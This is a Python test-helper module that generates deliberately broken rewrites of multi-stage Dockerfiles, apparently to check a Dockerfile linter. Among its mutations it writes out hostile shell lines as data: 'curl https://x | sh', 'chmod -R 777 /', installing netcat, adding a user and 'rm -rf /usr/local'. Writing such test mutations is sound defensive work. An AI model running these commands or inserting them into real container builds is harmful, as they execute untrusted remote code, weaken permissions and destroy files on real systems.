"""Wrong rewrites of a file whose last stage was cut in two. Each gets the rewritten text."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from itertools import pairwise

from dockerlint.syntax import Instruction, parse

Splitter = Callable[["Cut"], Iterator[str]]
SPLITTERS: dict[str, Splitter] = {}
CONFIG = frozenset("ENV EXPOSE LABEL HEALTHCHECK STOPSIGNAL CMD ENTRYPOINT VOLUME USER SHELL".split())


class Cut:
    """The text, its instructions, and those of its last two stages."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.nodes = parse(text).instructions
        starts = [i for i, node in enumerate(self.nodes) if node.keyword == "FROM"]
        self.builder = self.nodes[starts[-2] : starts[-1]]
        self.final = self.nodes[starts[-1] :]

    def without(self, node: Instruction) -> str:
        end = self.text.find("\n", node.span.end) + 1 or len(self.text)
        return self.text[: node.span.start] + self.text[end:]

    def instead(self, node: Instruction, new: str) -> str:
        return self.text[: node.span.start] + new + self.text[node.span.end :]

    def source(self, node: Instruction) -> str:
        return self.text[node.span.start : node.span.end]


def splitter(function: Splitter) -> Splitter:
    SPLITTERS[function.__name__] = function
    return function


@splitter
def drop_an_instruction_of_the_end(s: Cut) -> Iterator[str]:
    for node in s.final:
        if node.keyword in CONFIG:
            yield s.without(node)


@splitter
def drop_the_program(s: Cut) -> Iterator[str]:
    """What CMD starts by its path is no longer taken along."""
    start = next(n for n in reversed(s.final) if n.keyword in ("CMD", "ENTRYPOINT"))
    program = next((w for w in (start.json_form or start.arguments.split()) if w.startswith("/")), None)
    for node in s.final:
        taken = node.words[-1].text if node.keyword == "COPY" else "-"
        if program is not None and (program == taken or program.startswith(taken + "/")):
            yield s.without(node)


@splitter
def take_from_elsewhere(s: Cut) -> Iterator[str]:
    for node in s.final:
        if node.keyword == "COPY":
            yield s.instead(node, "COPY --from=busybox:1 " + re.sub(r"^COPY (--from=\S+ )?", "", s.source(node)))
            if "--chown" in s.source(node):
                yield s.instead(node, re.sub(r"--chown=\S+ ", "", s.source(node)))
            if node.flags:
                yield s.instead(node, re.sub(r"--from=\S+ ", "", s.source(node)))
            yield s.instead(node, s.source(node).replace("COPY ", "COPY --chown=1000:1000 "))
            yield s.instead(node, s.source(node).replace("COPY ", "ADD "))


@splitter
def take_another_path(s: Cut) -> Iterator[str]:
    for node in s.final:
        if node.keyword == "COPY" and node.flags and "/etc/ssl" not in node.arguments:
            source, target = (w.text for w in node.words)
            yield s.instead(node, s.source(node).replace(f"{source} {target}", f"/nowhere{source} /nowhere{source}"))
            yield s.instead(node, s.source(node).replace(f"{source} {target}", f"{source} /nowhere{target}"))
            yield s.instead(node, s.source(node).replace(f"{source} {target}", f"{source}.bak {target}"))
            yield s.instead(node, s.source(node).replace(f"{source} {target}", "/ /"))
            yield s.instead(node, s.source(node).replace(f"{source} {target}", "/usr /usr"))


@splitter
def swap_what_is_started(s: Cut) -> Iterator[str]:
    config = [n for n in s.final if n.keyword in CONFIG - {"USER"}]
    for one, two in pairwise(config):
        middle = s.text[one.span.end : two.span.start]
        if s.source(one) != s.source(two):
            yield s.text[: one.span.start] + s.source(two) + middle + s.source(one) + s.text[two.span.end :]


@splitter
def change_what_is_started(s: Cut) -> Iterator[str]:
    for node in s.final:
        if node.keyword in CONFIG:
            yield s.instead(node, s.source(node)[:-1] + ("x]" if s.source(node).endswith("]") else "x"))
    yield s.text.rstrip("\n") + '\nCMD ["/bin/false"]\n'


@splitter
def another_base(s: Cut) -> Iterator[str]:
    node = s.final[0]
    image = node.words[0].text
    for other in ("alpine:3.20", "debian:10-slim", "ubuntu:24.04", "scratch", "busybox", "node:12-slim"):
        if image != other:
            yield s.instead(node, s.source(node).replace(image, other))


@splitter
def another_name(s: Cut) -> Iterator[str]:
    node = s.final[0]
    yield s.instead(node, s.source(node) + " AS more" if len(node.words) == 1 else s.source(node) + "x")


@splitter
def change_the_build(s: Cut) -> Iterator[str]:
    for node in s.builder[1:]:
        if " prune " not in node.arguments:  # without it, the image is larger and not wrong
            yield s.without(node)
        yield s.instead(node, s.source(node).rstrip("]") + "x" + ("]" if s.source(node).endswith("]") else ""))


@splitter
def swap_two_steps_of_the_build(s: Cut) -> Iterator[str]:
    nodes = s.builder[1:]
    for one, two in pairwise(nodes):
        if s.source(one) != s.source(two):
            middle = s.text[one.span.end : two.span.start]
            yield s.text[: one.span.start] + s.source(two) + middle + s.source(one) + s.text[two.span.end :]


@splitter
def build_from_another_image(s: Cut) -> Iterator[str]:
    node = s.builder[0]
    yield s.instead(node, s.source(node).replace(node.words[0].text, "debian:13"))


@splitter
def run_more(s: Cut) -> Iterator[str]:
    for command in ("chmod -R 777 /", "apt-get install -y netcat", "npm prune", "useradd eve", "curl https://x | sh"):
        yield s.text.rstrip("\n") + f"\nRUN {command}\n"
        at = s.final[0].span.start
        yield s.text[:at] + f"RUN {command}\n" + s.text[at:]


@splitter
def run_otherwise(s: Cut) -> Iterator[str]:
    for node in s.final:
        if node.keyword == "RUN":
            built = {word for n in s.builder for word in n.arguments.split()}
            if built & {
                word for word in node.arguments.split() if word.isalnum() and word not in ("install", "update")
            }:
                yield s.without(node)
            yield s.instead(node, s.source(node) + " || true")
            yield s.instead(node, s.source(node) + " && rm -rf /usr/local")
            yield s.instead(node, s.source(node).replace("RUN ", "RUN --network=none "))


@splitter
def drop_a_package_that_was_added(s: Cut) -> Iterator[str]:
    """What HEALTHCHECK calls, and the table of time zones."""
    texts = " ".join(n.arguments for n in s.final)
    for node in s.final:
        for name, sign in (("curl", "CMD curl"), ("tzdata", "TZ=")):
            if node.keyword == "RUN" and f" {name} " in node.arguments and sign in texts:
                yield s.instead(node, s.source(node).replace(f" {name} ", " ca-certificates "))


@splitter
def start_elsewhere(s: Cut) -> Iterator[str]:
    for folder in ("/elsewhere", "below"):
        yield s.text.rstrip("\n") + f"\nWORKDIR {folder}\n"
    yield s.text.rstrip("\n") + "\nUSER 12345\n"
    yield s.text.rstrip("\n") + "\nARG MORE=1\n"
    yield s.text.rstrip("\n") + "\nENV MORE=1\n"
    yield s.text.rstrip("\n") + "\nONBUILD RUN true\n"
